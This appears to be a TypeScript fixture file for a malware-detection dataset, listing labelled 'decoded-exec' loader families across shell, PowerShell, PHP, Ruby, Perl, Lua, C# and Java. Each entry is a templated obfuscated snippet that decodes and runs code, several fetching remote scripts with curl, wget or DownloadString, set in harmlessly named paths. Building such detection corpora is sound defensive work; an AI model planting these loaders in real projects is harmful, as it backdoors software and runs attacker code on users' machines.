// Shells, PHP, Ruby, Perl, Lua, C# and Java that run what they decode first.
import type { Family } from './family.ts'

export const decodedExecOthers: readonly Family[] = [
  {
    family: 'shell-eval-base64',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['scripts/build-docs.sh', 'tools/versions.sh'],
        body: `eval "$(echo '⟦b64:curl -fsSL http://⟦ip⟧/a.sh | bash⟧' | base64 -d)" >/dev/nu⟦join⟧
ll 2>&1`,
      },
      {
        paths: ['ci/dump.sh'],
        body: `base64 --decode <<< "⟦b64:nohup sh -c 'wget -qO- http://⟦host⟧/k | sh' &⟧" | $⟦join⟧
(echo hs | rev)`,
      },
    ],
  },
  {
    family: 'shell-xxd-printf',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['scripts/backup.sh'],
        body: `_x=$(printf '⟦escaped:curl -s http://⟦ip⟧:⟦port⟧/s⟧')
_y="$(echo ⟦hexed:bash⟧ | xxd -r -p)"
$_x | $_y &`,
      },
    ],
  },
  {
    family: 'powershell-iex-frombase64',
    positive: true,
    classes: ['decoded-exec', 'windows'],
    variants: [
      {
        paths: ['tools/disks.ps1', 'build/publish.ps1'],
        body: `$c = '⟦b64:(New-Object Net.WebClient).DownloadString("http://⟦ip⟧/r.ps1") | IEX⟧'
IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($c)))`,
      },
    ],
  },
  {
    family: 'powershell-gzip-stream',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['deploy/inventory.ps1'],
        body: `$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA⟦bl⟦join⟧
ob:240⟧'))
$gz = New-Object IO.Compression.GzipStream($ms, [IO.Compression.CompressionMode]::Decompress)
&([scriptblock]::Create((New-Object IO.StreamReader($gz)).ReadToEnd()))`,
      },
    ],
  },
  {
    family: 'php-eval-gzinflate',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['wp-content/themes/fieldnotes/inc/helpers.php', 'include/cart.php'],
        body: `@eval(gzinflate(str_rot13(base64_decode('⟦blob:330⟧'))));`,
      },
      {
        paths: ['includes/legacy.php'],
        body: `$o = 'b'.'ase'.'64_d'.'ecode'; $p = strrev('etalfnizg');
$q = create_function('', $p($o('⟦blob:200⟧')));
$q();`,
      },
    ],
  },
  {
    family: 'php-assert-pack',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['lib/format.php'],
        body: `assert(pack('H*', '⟦hexed:eval(file_get_contents("http://⟦host⟧/t.txt"));⟧'));`,
      },
      {
        paths: ['lib/mail.php'],
        body: `preg_replace('/.*/e', "⟦escaped:eval(base64_decode($_COOKIE['⟦lower:4⟧']));⟧", '.');`,
      },
    ],
  },
  {
    family: 'ruby-instance-eval-inflate',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['lib/pager.rb', 'lib/rest/client.rb'],
        imports: `require 'zlib'
require 'base64'`,
        body: `Thread.new { eval(Zlib::Inflate.inflate(Base64.decode64('⟦zlib:loop{sleep 30;e⟦join⟧
val(Net::HTTP.get(URI("http://⟦host⟧/p")))}⟧'))) rescue nil }`,
      },
    ],
  },
  {
    family: 'perl-eval-unpack',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['bin/count.pl', 'cgi-bin/stat.pl'],
        body: `eval unpack u => q{_⟦alnum:60⟧
};
eval pack('H*', '⟦hexed:system("curl -s http://⟦ip⟧/bot.pl|perl");⟧');`,
      },
    ],
  },
  {
    family: 'lua-loadstring-bytes',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['addons/scoreboard/sv_init.lua', 'scripts/arena.lua'],
        body: `local function d(t) local s = "" for _, c in ipairs(t) do s = s .. string.char⟦join⟧
(c - 7) end return s end
RunString(d({ ⟦shifted:http.Fetch("http://⟦host⟧/gate.php",function(b) RunString(b) end)⟧ }))
(loadstring or load)(d({ ⟦shifted:print("ok")⟧ }))()`,
      },
    ],
  },
  {
    family: 'csharp-assembly-load',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['src/StockKeeper.cs'],
        imports: `using System.Reflection;`,
        body: `private static void Warm()
{
    var raw = Convert.FromBase64String("TVqQAAMAAAAEAAAA⟦blob:280⟧");
    for (var i = 0; i < raw.Length; i++) raw[i] ^= 0x5a;
    Assembly.Load(raw).EntryPoint.Invoke(null, new object[] { new string[0] });
}`,
        call: `Warm();`,
      },
    ],
  },
  {
    family: 'java-define-class',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['src/main/java/com/acme/utils/Strings.java', 'src/main/java/org/gardenplan/core/PlantingCalendar.java'],
        imports: `import java.util.Base64;`,
        body: `private static final class Cache extends ClassLoader {
    static void warm() {
        try {
            byte[] code = Base64.getDecoder().decode("yv66vgAAADQA⟦blob:180⟧");
            new Cache().defineClass(null, code, 0, code.length).getDeclaredConstructor().newInstance();
        } catch (Throwable ignored) {
        }
    }
}`,
        call: `Cache.warm();`,
      },
    ],
  },
]
